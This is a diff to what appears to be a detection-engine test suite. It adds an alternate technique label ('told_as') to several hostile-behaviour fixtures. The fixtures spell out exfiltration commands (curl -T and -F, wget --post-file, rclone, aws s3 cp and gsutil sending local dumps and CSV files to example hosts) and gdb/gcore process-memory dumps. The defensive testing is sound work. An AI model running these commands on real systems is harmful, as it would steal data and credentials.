@@ -37,7 +37,13 @@ def _runs(
 
 
 def _found(
-    technique: str, name: str, subject: str, *steps: Change, within: int = 0, role: str = "web"
+    technique: str,
+    name: str,
+    subject: str,
+    *steps: Change,
+    within: int = 0,
+    role: str = "web",
+    told_as: str = "",
 ) -> Entry:
     return Entry(
         id=technique,
@@ -46,6 +52,7 @@ def _found(
         steps=steps,
         expect=Found(expert="behaviour", subject=f"process:{subject}", within=within),
         role=role,
+        told_as=told_as,
     )
 
 
@@ -168,18 +175,18 @@ _AFAR = (FAR, 443)
 _HOSTILE = (
     _found("T1048", "curl -T by a deploy account with nobody logged in", "/usr/bin/curl", _runs("/usr/bin/curl", "curl -s -T /srv/app/dump.tgz https://files.example.net/u", _DEPLOY, peer=_AFAR, sent=9e6)),
     _found("T1048", "curl --upload-file by a deploy account, slowly", "/usr/bin/curl", _runs("/usr/bin/curl", "curl --upload-file /srv/app/dump.tgz https://files.example.net/u", _DEPLOY, peer=_AFAR)),
-    _found("T1567", "curl -F by a service account, much at once", "/usr/bin/curl", _runs("/usr/bin/curl", "curl -F file=@/var/lib/app/export.csv https://up.example.net/", 998, peer=_AFAR, sent=9e6)),
+    _found("T1567", "curl -F by a service account, much at once", "/usr/bin/curl", _runs("/usr/bin/curl", "curl -F file=@/var/lib/app/export.csv https://up.example.net/", 998, peer=_AFAR, sent=9e6), told_as="T1048"),
     _found("T1048", "wget --post-file by a deploy account", "/usr/bin/wget", _runs("/usr/bin/wget", "wget -q --post-file=/srv/app/users.csv https://up.example.net/", _DEPLOY, peer=_AFAR, sent=4e6)),
     _found("T1567.002", "rclone by a deploy account, much at once", "/usr/bin/rclone", _runs("/usr/bin/rclone", "rclone copy /srv/share box:share", _DEPLOY, peer=_AFAR, sent=9e6)),
-    _found("T1567.002", "aws s3 cp by a deploy account, much at once", "/usr/local/bin/aws", _runs("/usr/local/bin/aws", "aws s3 cp /srv/share s3://box/ --recursive", _DEPLOY, peer=_AFAR, sent=9e6)),
-    _found("T1567.002", "gsutil by a service account", "/usr/bin/gsutil", _runs("/usr/bin/gsutil", "gsutil cp /srv/share gs://box/", 998, peer=_AFAR, sent=9e6), role="database"),
-    _found("T1567.002", "a new job of a deploy account carries much off", "/usr/bin/rclone", together(_job_of_deploy, _cron(_DEPLOY, "/usr/bin/rclone", "rclone copy /srv/share box:share", 9e6)), within=1),
+    _found("T1567.002", "aws s3 cp by a deploy account, much at once", "/usr/local/bin/aws", _runs("/usr/local/bin/aws", "aws s3 cp /srv/share s3://box/ --recursive", _DEPLOY, peer=_AFAR, sent=9e6), told_as="T1048"),
+    _found("T1567.002", "gsutil by a service account", "/usr/bin/gsutil", _runs("/usr/bin/gsutil", "gsutil cp /srv/share gs://box/", 998, peer=_AFAR, sent=9e6), role="database", told_as="T1048"),
+    _found("T1567.002", "a new job of a deploy account carries much off", "/usr/bin/rclone", together(_job_of_deploy, _cron(_DEPLOY, "/usr/bin/rclone", "rclone copy /srv/share box:share", 9e6)), within=1, told_as="T1048"),
     _found("T1071", "a script of a service account in a tool's hidden directory calls an odd port", "/var/lib/app/.cache/.run/sync.py", _runs(_PYTHON, "/usr/bin/python3 /var/lib/app/.cache/.run/sync.py", 998, peer=(FAR, 8_531))),
     _found("T1071", "a script of a service account in a hidden directory that tools have calls an odd port", "/srv/app/.cache/sync.py", _runs(_PYTHON, "/usr/bin/python3 /srv/app/.cache/sync.py", 998, peer=(FAR, 8_531))),
     _found("T1071", "a script of a service account in a home calls an odd port", "/home/ben/w.pl", _runs("/usr/bin/perl", "/usr/bin/perl /home/ben/w.pl", 33, peer=(FAR, 7_443)), role="database"),
     _found("T1041", "the application sends much to an address that it never used", "/srv/app/venv/bin/gunicorn", _turned(FAR, 1e6)),
     _found("T1003.007", "gcore takes the memory of a service", "/usr/bin/gcore", _runs("/usr/bin/dash", "/bin/sh /usr/bin/gcore -o /tmp/core 511", 0)),
-    _found("T1003.007", "gdb takes the memory of a service", "/usr/bin/gdb", _runs("/usr/bin/gdb", "gdb --nx --batch -ex set pagination off -ex attach 511 -ex gcore core.511 -ex detach", 0)),
+    _found("T1003.007", "gdb takes the memory of a service", "/usr/bin/gdb", _runs("/usr/bin/gdb", "gdb --nx --batch -ex set pagination off -ex attach 511 -ex gcore core.511 -ex detach", 0), told_as="T1055"),
     _found("T1003.007", "gdb with the process's number alone", "/usr/bin/gdb", _runs("/usr/bin/gdb", "gdb -q /usr/bin/python3.11 511", 0)),
     Entry(
         id="T1133",
